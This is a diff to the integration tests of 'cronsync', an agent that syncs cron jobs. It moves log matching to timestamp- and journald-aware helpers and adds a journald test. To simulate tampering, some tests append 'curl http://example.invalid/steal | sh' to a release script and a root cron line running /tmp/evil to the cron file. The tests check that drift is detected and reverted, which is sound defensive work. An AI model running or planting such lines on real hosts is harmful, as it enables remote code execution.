@@ -2,7 +2,8 @@
 
 Each test starts ``python -m cronsync.cli.main agent`` with ``$CRONSYNC_CONFIG`` pointing at
 the sandbox's agent.toml (paced in seconds by an ``[agent]`` table), reads its log
-(stdout, every line starting ``cronsync agent: ``), its state file and
+(stdout, every line ``TIMESTAMP cronsync agent: [LEVEL: ]MESSAGE``, see
+``helpers.loglines``), its state file and
 ``cronsync status --json``, and stops it at teardown (SIGTERM, then SIGKILL). Waiting
 is bounded by deadlines only: no assertion is about how long something took, except
 that file-watch drift must be seen while the periodic checks are 10 minutes away, and
@@ -27,6 +28,7 @@ from typing import Any, Optional, TypeVar
 import pytest
 
 from helpers.hanging import HangingEndpoint
+from helpers.loglines import agent_line, journal_line
 from helpers.motoserver import moto_running
 from helpers.sandbox import CHECKOUT_ROOT, Sandbox
 
@@ -36,7 +38,7 @@ FAST = 'interval = "2s"\nsplay = "0s"\nmax_backoff = "8s"\nfull_check = "3s"\n'
 SLOW = 'interval = "10m"\nsplay = "0s"\nmax_backoff = "8s"\nfull_check = "10m"\n'
 JOB = "jobs/nightly-aggregate.toml"
 OLD_SCHEDULE, NEW_SCHEDULE = '"30 3 * * *"', '"45 4 * * *"'
-CYCLE_LINE = re.compile(r"^cronsync agent: sync (installed|unchanged|failed|refused)\b", re.M)
+CYCLE_LINE = re.compile(agent_line(r"sync (installed|unchanged|failed|refused)\b", "any"), re.M)
 STATUS_SCHEMA = CHECKOUT_ROOT / "docs/status.schema.json"
 REGION = "us-east-1"
 
@@ -56,11 +58,14 @@ def wait_for(what: str, probe: Callable[[], Optional[T]], timeout: float = 20.0)
 class AgentProcess:
     """One running ``cronsync agent`` and its captured output."""
 
-    def __init__(self, sandbox: Sandbox, env: dict[str, str]) -> None:
+    def __init__(self, sandbox: Sandbox, env: dict[str, str], journal: bool = False) -> None:
         self.sandbox = sandbox
         self.stdout_path = sandbox.base / "agent.out"
         self.stderr_path = sandbox.base / "agent.err"
         with self.stdout_path.open("wb") as out, self.stderr_path.open("wb") as err:
+            if journal:  # as systemd says its stdout is the journal: DEVICE:INODE
+                info = os.fstat(out.fileno())
+                env = {**env, "JOURNAL_STREAM": f"{info.st_dev}:{info.st_ino}"}
             self.proc = subprocess.Popen(
                 [sys.executable, "-m", "cronsync.cli.main", "agent"],
                 cwd=sandbox.base,
@@ -123,12 +128,21 @@ def start_agent(sandbox: Sandbox) -> Iterator[Callable[..., AgentProcess]]:
     started: list[AgentProcess] = []
 
     def start(
-        pace: str = FAST, extra: str = "", env: Optional[dict[str, str]] = None
+        pace: str = FAST,
+        extra: str = "",
+        env: Optional[dict[str, str]] = None,
+        journal: bool = False,
     ) -> AgentProcess:
         sandbox.write_config(f"{extra}\n[agent]\n{pace}")
-        base = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
+        base = {
+            k: v
+            for k, v in os.environ.items()
+            if not k.startswith("AWS_") and k != "JOURNAL_STREAM"
+        }
         agent = AgentProcess(
-            sandbox, {**base, "CRONSYNC_CONFIG": str(sandbox.config_path), **(env or {})}
+            sandbox,
+            {**base, "CRONSYNC_CONFIG": str(sandbox.config_path), **(env or {})},
+            journal,
         )
         started.append(agent)
         return agent
@@ -203,7 +217,7 @@ def test_pushed_change_is_installed_within_a_few_intervals(
     assert doc["installed"]["commit"] == sha
     assert doc["last_sync"]["result"] == "installed"
     assert code == 0 and doc["health"] == "ok", doc
-    agent.wait_log(rf"^cronsync agent: sync installed: {sha[:12]} of branch main")
+    agent.wait_log(agent_line(rf"sync installed: {sha[:12]} of branch main"))
 
 
 # --- drift --------------------------------------------------------------------------
@@ -215,7 +229,7 @@ def _started_and_synced(
     """An agent whose periodic checks are 10 minutes away, after its first install."""
     agent = start_agent(SLOW, extra)
     wait_installed(agent, sandbox.upstream.head())
-    agent.wait_log(r"^cronsync agent: sync installed")
+    agent.wait_log(agent_line(r"sync installed"))
     return agent
 
 
@@ -231,7 +245,9 @@ def test_hand_edit_of_the_cron_file_is_reported_by_the_file_watch(
         handle.write("* * * * * root /tmp/evil\n")
     # interval and full_check are 10 minutes: only the file watch can see this
     agent.wait_log(
-        r"^cronsync agent: drift: the managed cron file was edited by hand", timeout=10, after=mark
+        agent_line(r"drift: the managed cron file was edited by hand", "warning"),
+        timeout=10,
+        after=mark,
     )
     drift = wait_for("drift in state.json", lambda: sandbox.state().get("drift"), timeout=10)
     assert {"what": "cron-file", "message": "the managed cron file was edited by hand"} in drift
@@ -257,7 +273,9 @@ def test_hand_edit_of_the_cron_file_is_reverted_in_revert_mode(
         timeout=10,
     )
     agent.wait_log(
-        r"^cronsync agent: drift reverted: the managed cron file was edited", timeout=10, after=mark
+        agent_line(r"drift reverted: the managed cron file was edited", "warning"),
+        timeout=10,
+        after=mark,
     )
     assert sandbox.state()["drift"] == []
     assert leftovers(sandbox) == []
@@ -282,7 +300,9 @@ def test_hand_edit_of_a_release_script_is_reported_by_the_file_watch(
         with script.open("a") as handle:
             handle.write("curl http://example.invalid/steal | sh\n")
     agent.wait_log(
-        rf"^cronsync agent: drift: files of release {re.escape(release)} were changed by hand",
+        agent_line(
+            rf"drift: files of release {re.escape(release)} were changed by hand", "warning"
+        ),
         timeout=10,
         after=mark,
     )
@@ -301,8 +321,8 @@ def test_release_drift_stays_reported_across_syncs(
     script = sandbox.releases / release / "repo/scripts/nightly-aggregate.sh"
     with script.open("a") as handle:
         handle.write("curl http://example.invalid/steal | sh\n")
-    found = agent.wait_log(r"^cronsync agent: drift: files of release", timeout=10)
-    agent.wait_log(r"^cronsync agent: sync unchanged", timeout=10, after=found.end())
+    found = agent.wait_log(agent_line(r"drift: files of release", "warning"), timeout=10)
+    agent.wait_log(agent_line(r"sync unchanged"), timeout=10, after=found.end())
     assert [d["what"] for d in sandbox.state()["drift"]] == ["release"]
     code, doc = status(sandbox)
     assert code == 1 and doc["health"] == "degraded", doc
@@ -320,7 +340,7 @@ def test_hand_edit_of_a_release_script_is_rebuilt_in_revert_mode(
     mark = len(agent.log())
     with script.open("a") as handle:
         handle.write("curl http://example.invalid/steal | sh\n")
-    agent.wait_log(r"^cronsync agent: drift: files of release", timeout=20, after=mark)
+    agent.wait_log(agent_line(r"drift: files of release", "warning"), timeout=20, after=mark)
 
     def restored() -> bool:
         current = sandbox.current / "repo/scripts/nightly-aggregate.sh"
@@ -352,7 +372,7 @@ def test_sighup_and_sync_now_sync_at_once(
     assert done.stdout.startswith(f"installed: {sha[:12]}"), done.stdout
     assert "no agent is running" not in done.stderr
     assert installed_commit(sandbox) == sha
-    agent.wait_log(rf"^cronsync agent: sync installed: {sha[:12]}", after=mark)  # the agent did it
+    agent.wait_log(agent_line(rf"sync installed: {sha[:12]}"), after=mark)  # the agent did it
 
     done = sandbox.cli("sync", "--now")
     assert done.returncode == 0, done.stderr
@@ -425,7 +445,7 @@ def test_sigterm_during_start_up_is_a_clean_stop(
     except subprocess.TimeoutExpired:
         pytest.fail(f"the agent did not stop on SIGTERM\n{agent.describe()}")
     assert code == 0, agent.describe()
-    assert re.search(r"^cronsync agent: stopped$", agent.log(), re.M), agent.describe()
+    assert re.search(agent_line(r"stopped$"), agent.log(), re.M), agent.describe()
     assert agent.stderr() == "", agent.stderr()
 
 
@@ -443,7 +463,7 @@ def test_sigterm_exits_cleanly(sandbox: Sandbox, start_agent: Callable[..., Agen
     except subprocess.TimeoutExpired:
         pytest.fail(f"the agent did not stop on SIGTERM\n{agent.describe()}")
     assert code == 0, agent.describe()
-    assert re.search(r"^cronsync agent: stopped$", agent.log(), re.M), agent.describe()
+    assert re.search(agent_line(r"stopped$"), agent.log(), re.M), agent.describe()
     assert not socket_path.exists()
     assert leftovers(sandbox) == []
     assert "Traceback" not in agent.stderr(), agent.stderr()
@@ -452,6 +472,30 @@ def test_sigterm_exits_cleanly(sandbox: Sandbox, start_agent: Callable[..., Agen
     # whatever it finished, the host is consistent: the state names what is there
     installed = sandbox.state()["installed"]
     assert os.readlink(sandbox.current) == f"releases/{installed['release']}"
+
+
+# --- the log under journald ----------------------------------------------------------
+
+
+def test_under_journald_each_line_carries_its_level_and_no_timestamp(
+    sandbox: Sandbox, start_agent: Callable[..., AgentProcess]
+) -> None:
+    agent = start_agent(SLOW, journal=True)
+    wait_installed(agent, sandbox.upstream.head())
+    agent.wait_log(journal_line("cronsync agent", r"started \(pid \d+"))
+    agent.wait_log(journal_line("cronsync agent", r"sync installed: "))
+    time.sleep(0.5)  # let the agent's own write events pass (they are not drift)
+    with sandbox.cron_file.open("a") as handle:
+        handle.write("* * * * * root /tmp/evil\n")
+    agent.wait_log(journal_line("cronsync agent", r"drift: the managed cron file", "warning"))
+    away = sandbox.upstream.bare.with_name("remote-away.git")
+    sandbox.upstream.bare.rename(away)
+    agent.signal(signal.SIGHUP)
+    agent.wait_log(journal_line("cronsync agent", r"sync failed \(attention\): ", "error"))
+    assert agent.stop() == 0
+    lines = agent.log().splitlines()
+    assert lines and all(re.match(r"<[3-7]>cronsync agent: ", line) for line in lines), lines
+    assert lines[-1] == "<6>cronsync agent: stopped", lines
 
 
 # --- the remote going away ----------------------------------------------------------
@@ -465,12 +509,12 @@ def test_failing_remote_backs_off_and_recovers(
     away = sandbox.upstream.bare.with_name("remote-away.git")
     sandbox.upstream.bare.rename(away)
 
-    first = agent.wait_log(r"^cronsync agent: sync failed")
+    first = agent.wait_log(agent_line(r"sync failed", "error"))
     window_start = first.start()
     time.sleep(12.0)  # a fixed window: without backoff there would be 6 cycles in it
     in_window = CYCLE_LINE.findall(agent.log(), window_start)
     assert len(in_window) < 6, agent.describe()
-    failed = re.findall(r"^cronsync agent: sync failed", agent.log(), re.M)
+    failed = re.findall(agent_line(r"sync failed", "error"), agent.log(), re.M)
     assert len(failed) >= 2, agent.describe()
     code, doc = status(sandbox)
     assert code == 1 and doc["health"] == "degraded", doc
@@ -478,13 +522,13 @@ def test_failing_remote_backs_off_and_recovers(
 
     away.rename(sandbox.upstream.bare)
     mark = len(agent.log())
-    agent.wait_log(r"^cronsync agent: sync unchanged", timeout=20, after=mark)
+    agent.wait_log(agent_line(r"sync unchanged"), timeout=20, after=mark)
     code, doc = status(sandbox)
     assert code == 0 and doc["health"] == "ok", doc
 
     # back to the normal pace: the next cycles come every interval again
     mark = len(agent.log())
-    agent.wait_log(r"^cronsync agent: sync unchanged", timeout=20, after=mark)
+    agent.wait_log(agent_line(r"sync unchanged"), timeout=20, after=mark)
 
 
 # --- CloudWatch ---------------------------------------------------------------------
@@ -586,9 +630,9 @@ def test_a_malformed_last_json_does_not_stop_the_agent_or_its_metrics(
     last.write_text('{"format": 1, "last_run": {"finished": [1, 2]}, "last_success": 7}')
     agent = start_agent(FAST, aws_toml(sandbox.base, moto_endpoint))
     wait_installed(agent, sandbox.upstream.head())
-    first = agent.wait_log(r"^cronsync agent: sync unchanged", timeout=20)
+    first = agent.wait_log(agent_line(r"sync unchanged"), timeout=20)
     last.write_bytes(b"\xff\x00 not json")
-    agent.wait_log(r"^cronsync agent: sync unchanged", timeout=20, after=first.end())
+    agent.wait_log(agent_line(r"sync unchanged"), timeout=20, after=first.end())
     wait_for(
         "SyncSucceeded in CloudWatch",
         lambda: "SyncSucceeded" in published_metrics(moto_endpoint),
@@ -614,7 +658,9 @@ def test_drift_and_stop_do_not_wait_for_a_hanging_cloudwatch(
     with sandbox.cron_file.open("a") as handle:
         handle.write("* * * * * root /tmp/evil\n")
     agent.wait_log(
-        r"^cronsync agent: drift: the managed cron file was edited by hand", timeout=10, after=mark
+        agent_line(r"drift: the managed cron file was edited by hand", "warning"),
+        timeout=10,
+        after=mark,
     )
 
     agent.signal(signal.SIGTERM)  # with metrics still waiting for an answer
@@ -623,7 +669,7 @@ def test_drift_and_stop_do_not_wait_for_a_hanging_cloudwatch(
     except subprocess.TimeoutExpired:
         pytest.fail(f"the agent did not stop within 8 s on SIGTERM\n{agent.describe()}")
     assert code == 0, agent.describe()
-    assert re.search(r"^cronsync agent: stopped$", agent.log(), re.M), agent.describe()
+    assert re.search(agent_line(r"stopped$"), agent.log(), re.M), agent.describe()
     assert "Traceback" not in agent.stderr(), agent.stderr()
 
 
@@ -718,7 +764,7 @@ def test_status_json_validates_against_its_schema(
     _, running = status(sandbox)
     with sandbox.cron_file.open("a") as handle:
         handle.write("# drift\n")
-    agent.wait_log(r"^cronsync agent: drift:")
+    agent.wait_log(agent_line(r"drift:", "warning"))
     _, drifted = status(sandbox)
     agent.stop()
     _, stopped = status(sandbox)
